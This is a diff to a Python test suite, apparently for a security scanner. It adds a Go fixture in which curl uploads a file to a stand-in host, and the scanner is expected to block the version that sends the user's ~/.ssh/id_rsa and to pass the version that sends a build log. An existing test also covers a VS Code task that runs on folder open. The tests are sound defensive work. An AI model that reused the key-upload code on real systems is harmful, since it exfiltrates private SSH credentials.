@@ -459,3 +459,31 @@ def test_folder_open_shell_task_blocks(tmp_path: Path) -> None:
     task = '{"label": "w", "type": "shell", "command": "sass --watch src:dist", "runOptions": {"runOn": "folderOpen"}}'
     files = {".vscode/tasks.json": _tasks(task), "package.json": _pkg("sass --watch src:dist")}
     assert "SY-PER-009" in blocking(tmp_path, files)
+
+
+# ------------------------------------------------ Go: curl's arguments in a []string literal over several lines
+
+
+def _go_curl(path_expr: str) -> str:
+    return (
+        "package main\n\n"
+        'import (\n\t"os"\n\t"os/exec"\n\t"path/filepath"\n)\n\n'
+        "func main() {\n"
+        "\th, _ := os.UserHomeDir()\n"
+        f"\tf := {path_expr}\n"
+        '\texec.Command("curl", []string{\n'
+        '\t\t"-s", "-F", "blob=@" + f,\n'
+        '\t\t"https://crash-intake.example.test/v2/upload",\n'
+        "\t}...).Run()\n"
+        "\t_ = h\n}\n"
+    )
+
+
+def test_go_curl_uploading_a_key_through_a_string_slice_blocks(tmp_path: Path) -> None:
+    go = _go_curl('filepath.Join(h, ".ssh", "id_rsa")')
+    assert "SY-FLOW-001" in blocking(tmp_path, {"cmd/report/main.go": go})
+
+
+def test_go_curl_uploading_a_build_log_through_a_string_slice_does_not_block(tmp_path: Path) -> None:
+    go = _go_curl('filepath.Join("build", "crash.log")')
+    assert blocking(tmp_path, {"cmd/report/main.go": go}) == {}
